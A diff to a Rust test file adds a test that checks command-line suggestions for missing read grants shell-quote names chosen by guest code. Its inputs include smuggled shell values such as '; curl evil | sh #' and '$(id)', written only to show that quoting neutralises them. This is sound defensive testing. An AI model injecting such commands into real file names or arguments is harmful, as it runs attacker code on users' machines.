@@ -309,6 +309,19 @@ fn hexadecimal_is_read_as_it_is_written() {
     }
 }
 
+/// Guest code chooses the name, and a person may paste the command line.
+#[test]
+fn a_missing_grant_is_one_word_of_a_shell() {
+    let read = |name: &str| {
+        let missing = MissingGrant { kind: MissingKind::Read, name: name.into() };
+        missing.phrase(Audience::CommandLine)
+    };
+    assert_eq!(read("/srv/data.csv"), "--read /srv/data.csv", "control");
+    assert_eq!(read("/srv/x; curl evil | sh #"), "--read '/srv/x; curl evil | sh #'");
+    assert_eq!(read("/srv/x\n$(id)"), "--read '/srv/x\n$(id)'");
+    assert_eq!(read("/it's"), r"--read '/it'\''s'");
+}
+
 /// A missing grant is data; the sentence about it is in the words of its reader.
 #[test]
 fn a_missing_grant_is_told_in_the_words_of_its_reader() {
